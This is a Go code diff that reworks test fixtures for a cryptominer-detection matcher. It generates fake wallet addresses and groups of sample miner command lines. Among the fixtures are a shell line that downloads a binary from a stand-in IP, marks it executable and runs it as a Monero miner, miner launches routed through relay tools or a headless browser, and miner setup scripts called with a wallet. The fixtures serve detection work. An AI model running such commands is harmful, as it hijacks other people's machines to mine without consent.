@@ -11,20 +11,11 @@ import (
 type minerKind struct {
 	name     string
 	commands [][]string
-	needs    string // feature of the matcher; "" if single strings suffice
 }
-
-// Features that a matcher of single strings lacks.
-const (
-	aCombination = "a combination: words that only together are a miner's"
-	aPrefix      = "a prefix: a program's name up to a place"
-)
 
 // wallets returns invented wallet addresses of valid form, always the same.
 func wallets() map[string]string {
 	rnd := rand.New(rand.NewPCG(1, 2))
-	const base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
-	const bech32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
 	shape := func(prefix, letters string, n int) string {
 		b := []byte(prefix)
 		for len(b) < n {
@@ -66,7 +57,7 @@ func minerKinds() []minerKind {
 	return slices.Concat(stringKinds(xmr), furtherKinds(xmr))
 }
 
-// stringKinds returns the kinds that a single string can match.
+// stringKinds returns the kinds that a single word tells.
 func stringKinds(xmr string) []minerKind {
 	var schemes, glued, names, flags, encoded [][]string
 	for scheme := range strings.FieldsSeq(`
@@ -120,9 +111,10 @@ func stringKinds(xmr string) []minerKind {
 	}
 }
 
-// furtherKinds returns the kinds that need other features of the matcher.
+// furtherKinds returns the kinds that only several words together tell, or the beginning of
+// one.
 func furtherKinds(xmr string) []minerKind {
-	var wallet, algorithm, coin, relayed, versions [][]string
+	var wallet, algorithm, coin, relayed, other, versions [][]string
 	for _, program := range renamed() {
 		for _, pool := range pools() {
 			for _, w := range wallets() {
@@ -144,17 +136,30 @@ func furtherKinds(xmr string) []minerKind {
 		{"/usr/bin/proxychains4", "./worker", "-o", "pool.supportxmr.com:3333", "-a", "rx", "-u", xmr},
 		{"./graftcp", "./worker", "--algo", "ETCHASH", "--pool", "203.0.113.7:3353", "--user", wallets()["ethereum"]},
 		{"/usr/bin/firefox", "--headless", "https://miner.example.net?algorithm=minotaurx&host=mine.zpool.ca&port=7019&worker=" + wallets()["bitcoin"]},
+		{"/usr/bin/chromium", "https://a.example.net/?algorithm=x&worker=" + wallets()["bitcoin segwit"] + "&port=443&host=203.0.113.7"},
 		{"/bin/sh", "-c", "curl -sL http://203.0.113.7/w -o w && chmod +x w && ./w -o pool.supportxmr.com:3333 -u " + xmr + " &"},
+		{"/usr/bin/bash", "-s", xmr}, {"/bin/sh", "-s", "--", xmr}, {"./setup_c3pool_miner.sh", xmr}, {"/bin/bash", "setup_moneroocean_miner.sh", xmr},
+	}
+	other = [][]string{
+		{"./data", "ann", "-p", "pkt" + wallets()["sugarchain"][5:], "http://pool.example.org"},
+		{"./worker", "-a", "yespower", "-o", "http://127.0.0.1:3000/json-rpc", "-u", "me", "-p", "5"},
+		{"./worker", "-o", "203.0.113.7:3333", "--rig-id", "az", "-t", "8"},
+		{"./worker", "--url=" + wallets()["ethereum"] + ".rig1@203.0.113.7:3333", "--par=144,5"},
+		{"./worker", "--algo", "144_5", "--pers", "auto", "--server", "203.0.113.7", "--port", "3333", "--user", wallets()["raptoreum, verus"] + ".w"},
+		{"./worker", "-a", "scrypt", "-o", "203.0.113.7:3333", "-u", "me.1", "-p", "x"},
+		{"./worker", "-o", "gulf.moneroocean.stream", "-u", xmr}, {"./worker", "-o", "xmr-eu.example.net:443", "-u", "me"},
+		{"./worker", "-opool.hashvault.pro:443", "-u", "me", "-k"}, {"./worker", "--currency", "monero7", "-o", "203.0.113.7:3333", "-u", "me"},
 	}
 	for name := range strings.FieldsSeq(`xmrig-6.22.2 xmrig-6.22.2-linux-static-x64 cpuminer-v4 cpuminer-sse5 SRBMiner-MULTI-2-9-4
 		wildrig-multi-0.40.5 dero-miner-linux-riscv64 rqiner-x86-znver6 xmrigd`) {
 		versions = append(versions, []string{"./" + name, "-c", "config.json"})
 	}
 	return []minerKind{
-		{"a pool or its address with a wallet", wallet, aCombination},
-		{"an algorithm with a pool", algorithm, aCombination},
-		{"a coin, a rig or a payout address with a pool", coin, aCombination},
-		{"a miner behind a relay, in a browser, or from a downloading shell", relayed, aCombination},
-		{"a program's name with a version or a new variant", versions, aPrefix},
+		{"a pool or its address with a wallet", wallet},
+		{"an algorithm with a pool", algorithm},
+		{"a coin, a rig or a payout address with a pool", coin},
+		{"a miner behind a relay, in a browser, or from a downloading shell", relayed},
+		{"other words that only together are a miner's", other},
+		{"a program's name with a version or a new variant", versions},
 	}
 }
